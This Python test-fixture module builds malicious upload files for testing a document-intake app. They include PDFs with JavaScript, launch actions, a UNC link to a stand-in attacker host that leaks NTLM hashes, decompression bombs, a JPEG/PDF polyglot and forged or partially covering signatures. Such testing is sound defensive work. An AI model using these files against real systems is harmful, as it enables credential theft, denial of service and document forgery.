"""Files for upload tests, all generated here: good JPGs and PDFs, signed PDFs, and
the hostile ones (disguised types, active content, bombs, broken and encrypted, hidden
revisions, trailing data, links to other files, partial or back-dated signatures)."""

import asyncio
import datetime
import hashlib
import re
import zipfile
import zlib
from io import BytesIO
from unittest import mock

from PIL import Image
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.signers import pdf_signer as pyhanko_pdf_signer
from pyhanko.sign.signers.pdf_byterange import PreparedByteRangeDigest
from pyhanko_certvalidator.registry import SimpleCertificateStore
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from clavepatronal.documents.constants import SIGNATURE_FIELD_NAME
from clavepatronal.documents.pki import pdf_sign, signer_create


def jpg(size=(640, 480), *, exif: bool = False, quality: int = 85) -> bytes:
    image = Image.new("RGB", size, (30, 120, 200))
    output = BytesIO()
    options = {"quality": quality}
    if exif:
        data = Image.Exif()
        data[0x010F] = "Fabricante"  # Make
        data[0x8825] = {2: (0.0, 13.0, 0.0), 1: "S"}  # GPSInfo
        options["exif"] = data.tobytes()
    image.save(output, format="JPEG", **options)
    return output.getvalue()


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def _pdf_with(change) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def _action(kind: str, **extra) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    action.update({NameObject(k): v for k, v in extra.items()})
    return action


def _annotation(writer, annotation: DictionaryObject) -> None:
    page = writer.pages[0]
    annotation.update(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 10, 10)]),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def pdf_javascript() -> bytes:
    """Document-level JavaScript, in the catalogue's /Names tree."""

    def change(writer):
        script = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hola');"),
            }
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {
                NameObject("/JavaScript"): DictionaryObject(
                    {
                        NameObject("/Names"): ArrayObject(
                            [TextStringObject("inicio"), writer._add_object(script)]
                        )
                    }
                )
            }
        )

    return _pdf_with(change)


def pdf_open_action() -> bytes:
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )

    return _pdf_with(change)


def pdf_additional_actions() -> bytes:
    def change(writer):
        writer.pages[0][NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): _action("/GoTo", **{"/D": ArrayObject()})}
        )

    return _pdf_with(change)


def pdf_launch() -> bytes:
    return _pdf_with(
        lambda w: _annotation(
            w,
            DictionaryObject(
                {
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/A"): _action(
                        "/Launch", **{"/F": TextStringObject("calc.exe")}
                    ),
                }
            ),
        )
    )


def pdf_embedded_file() -> bytes:
    return _pdf_with(lambda w: w.add_attachment("virus.exe", b"MZ\x90\x00"))


def pdf_rich_media() -> bytes:
    return _pdf_with(
        lambda w: _annotation(
            w,
            DictionaryObject(
                {
                    NameObject("/Subtype"): NameObject("/RichMedia"),
                    NameObject("/RichMediaContent"): DictionaryObject(),
                }
            ),
        )
    )


def pdf_xfa() -> bytes:
    def change(writer):
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
            {
                NameObject("/Fields"): ArrayObject(),
                NameObject("/XFA"): TextStringObject("<xdp:xdp/>"),
            }
        )

    return _pdf_with(change)


def pdf_submit_form() -> bytes:
    return _pdf_with(
        lambda w: _annotation(
            w,
            DictionaryObject(
                {
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/A"): _action(
                        "/SubmitForm", **{"/F": TextStringObject("http://x.example")}
                    ),
                }
            ),
        )
    )


def _link(action: DictionaryObject) -> bytes:
    return _pdf_with(
        lambda w: _annotation(
            w,
            DictionaryObject(
                {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action}
            ),
        )
    )


def pdf_goto_remote_unc() -> bytes:
    """A link to a PDF on a network share: clicking it from Windows sends the
    officer's NTLM hash to that host."""
    return _link(
        _action(
            "/GoToR",
            **{
                "/F": TextStringObject("\\\\atacante.example\\docs\\ruc.pdf"),
                "/D": ArrayObject([NumberObject(0), NameObject("/Fit")]),
            },
        )
    )


def pdf_goto_embedded() -> bytes:
    return _link(
        _action(
            "/GoToE",
            **{
                "/F": TextStringObject("\\\\atacante.example\\docs\\anexo.pdf"),
                "/T": DictionaryObject({NameObject("/R"): NameObject("/C")}),
            },
        )
    )


def pdf_uri(target: str) -> bytes:
    return _link(_action("/URI", **{"/URI": TextStringObject(target)}))


def _appended_revision(data: bytes, change) -> bytes:
    """`data` plus one incremental update made by `change(writer)`."""
    writer = IncrementalPdfFileWriter(BytesIO(data), strict=False)
    change(writer)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def _open_with_javascript(writer) -> None:
    script = writer.add_object(
        generic.DictionaryObject(
            {
                generic.pdf_name("/S"): generic.pdf_name("/JavaScript"),
                generic.pdf_name("/JS"): generic.pdf_string("app.alert('hola');"),
            }
        )
    )
    writer.root[generic.pdf_name("/OpenAction")] = script
    writer.update_root()


def _replace_first_page_text(writer) -> None:
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    content = generic.StreamObject(
        stream_data=b"BT /F1 24 Tf 72 720 Td (PODER AMPLIO A FAVOR DE UN TERCERO) Tj ET"
    )
    page[generic.pdf_name("/Contents")] = writer.add_object(content)
    writer.update_container(page)


def without_closing_eof(data: bytes) -> bytes:
    """The last revision without its %%EOF: pypdf and pyHanko skip it entirely,
    poppler and pdf.js show it."""
    body = data.rstrip()
    assert body.endswith(b"%%EOF")
    return body[: -len(b"%%EOF")]


def pdf_shadow_javascript() -> bytes:
    """A clean scan, then a revision that runs JavaScript on opening, left unclosed."""
    return without_closing_eof(_appended_revision(pdf(), _open_with_javascript))


def shadow_revision(signed: bytes) -> bytes:
    """A signed document, then a revision that changes the page text, unclosed."""
    return without_closing_eof(_appended_revision(signed, _replace_first_page_text))


def later_revision(signed: bytes, *, javascript: bool = False) -> bytes:
    """A signed document, then a properly closed revision (text or JavaScript)."""
    change = _open_with_javascript if javascript else _replace_first_page_text
    return _appended_revision(signed, change)


def zip_with_html() -> bytes:
    output = BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("index.html", "<html><script>alert(1)</script></html>")
    return output.getvalue()


def signer_with(ca, identification: str, **options):
    return signer_create(
        ca=ca, holder_name="JUAN CARLOS PEREZ", identification=identification, **options
    )


def sign_at(document, ca, signer, when: datetime.datetime, **options) -> bytes:
    """Sign with the signer's clock set to `when`, as anyone can set their own."""

    class Clock(datetime.datetime):
        @classmethod
        def now(cls, tz=None):
            return when.astimezone(tz) if tz else when.replace(tzinfo=None)

    with mock.patch.object(pyhanko_pdf_signer, "datetime", Clock):
        return pdf_sign(
            bytes(document.content),
            signer=signer,
            ca=ca,
            field_name=SIGNATURE_FIELD_NAME,
            **options,
        )


def sign_back_dated_expired(document, ca, identification: str) -> bytes:
    """A certificate that expired 30 days ago, the signing time set 60 days back."""
    now = datetime.datetime.now(datetime.UTC)
    day = datetime.timedelta(days=1)
    signer = signer_with(
        ca, identification, not_before=now - 400 * day, not_after=now - 30 * day
    )
    return sign_at(document, ca, signer, now - 60 * day)


def sign_partial_coverage(document, ca, identification: str) -> bytes:
    """A valid signature whose byte range stops before the end of its revision: the
    closing startxref and %%EOF lie outside it, free to point anywhere."""
    signer = signer_with(ca, identification)
    simple = signers.SimpleSigner(
        signing_cert=signer.asn1_cert,
        signing_key=signer.asn1_key,
        cert_registry=SimpleCertificateStore.from_certs([ca.asn1_cert]),
    )
    signing = signers.PdfSigner(
        signers.PdfSignatureMetadata(field_name=SIGNATURE_FIELD_NAME), signer=simple
    )
    prepared, _tbs, output = asyncio.run(
        signing.async_digest_doc_for_signing(
            IncrementalPdfFileWriter(BytesIO(bytes(document.content)), strict=False)
        )
    )
    data = bytearray(output.getvalue())
    start, end = prepared.reserved_region_start, prepared.reserved_region_end
    signed_end = data.rindex(b"startxref")
    brackets = re.search(rb"/ByteRange\s*(\[[^\]]*\])", data)
    new_range = f"[0 {start} {end} {signed_end - end}]".encode()
    width = brackets.end(1) - brackets.start(1)
    data[brackets.start(1) : brackets.end(1)] = new_range.ljust(width)
    digest = hashlib.sha256(bytes(data[:start] + data[end:signed_end])).digest()
    cms = asyncio.run(simple.async_sign(digest, "sha256", use_pades=True))
    result = BytesIO(bytes(data))
    PreparedByteRangeDigest(
        document_digest=digest, reserved_region_start=start, reserved_region_end=end
    ).fill_with_cms(result, cms)
    return result.getvalue()


def pdf_encrypted() -> bytes:
    return _pdf_with(lambda w: w.encrypt(user_password="clave", algorithm="AES-128"))


def _flate_stream(inflated: int) -> StreamObject:
    """A stream of `inflated` spaces, compressed: about a thousand times smaller."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    parts = [compressor.compress(chunk) for _ in range(inflated // len(chunk))]
    stream = StreamObject()
    stream._data = b"".join(parts) + compressor.flush()  # stored as compressed
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    return stream


def pdf_content_bomb(inflated: int = 300 * 1024 * 1024) -> bytes:
    """A one-page PDF of a few hundred KB whose page content inflates to 300 MB."""

    def change(writer):
        contents = writer._add_object(_flate_stream(inflated))
        writer.pages[0][NameObject("/Contents")] = contents

    return _pdf_with(change)


def pdf_contents(*sizes: int) -> bytes:
    """A one-page PDF whose content is several streams inflating to `sizes`."""

    def change(writer):
        streams = [writer._add_object(_flate_stream(size)) for size in sizes]
        writer.pages[0][NameObject("/Contents")] = ArrayObject(streams)

    return _pdf_with(change)


def pdf_nested(depth: int = 150) -> bytes:
    """A PDF with an array nested `depth` deep in its page."""

    def change(writer):
        nested = ArrayObject()
        for _ in range(depth):
            nested = ArrayObject([nested])
        writer.pages[0][NameObject("/Anidado")] = nested

    return _pdf_with(change)


def jpeg_polyglot() -> bytes:
    """A real photo that carries a whole PDF with JavaScript in its comment (COM)
    segment and more bytes in an APP13 segment: a viewer that sniffs finds a PDF."""
    image = Image.new("RGB", (64, 48), (200, 30, 30))
    output = BytesIO()
    image.save(output, format="JPEG", comment=pdf_javascript()[:60_000])
    data = output.getvalue()
    app13 = b"Photoshop 3.0\0" + b"<script>alert(1)</script>"
    segment = b"\xff\xed" + (len(app13) + 2).to_bytes(2, "big") + app13
    return data[:2] + segment + data[2:]


def jpeg_bomb() -> bytes:
    """A small JPEG whose header claims 50,000 × 50,000 pixels."""
    data = bytearray(jpg((16, 16)))
    marker = data.find(b"\xff\xc0")
    data[marker + 5 : marker + 9] = (50_000).to_bytes(2, "big") * 2
    return bytes(data)


def sign(document, ca, identification: str, name: str = "JUAN CARLOS PEREZ") -> bytes:
    signer = signer_create(ca=ca, holder_name=name, identification=identification)
    return pdf_sign(
        bytes(document.content), signer=signer, ca=ca, field_name=SIGNATURE_FIELD_NAME
    )


def tramite_data(**overrides) -> dict:
    """What `tramite_submit` receives for a Clave patronal trámite in Pichincha."""
    from clavepatronal.catalogue.models import ProcedureType
    from clavepatronal.identity.models import Province

    return {
        "procedure_type": ProcedureType.objects.get(code="clave-patronal"),
        "province": Province.objects.get(code="17"),
        "applicant_id_type": "CEDULA",
        "applicant_identification": "0926687856",
        "applicant_names": "Juan Pérez",
        "applicant_email": "juan@ejemplo.ec",
        "applicant_mobile": "+593991234567",
        "employer_identification": "1790011674001",
        "message": "Pedido",
        **overrides,
    }
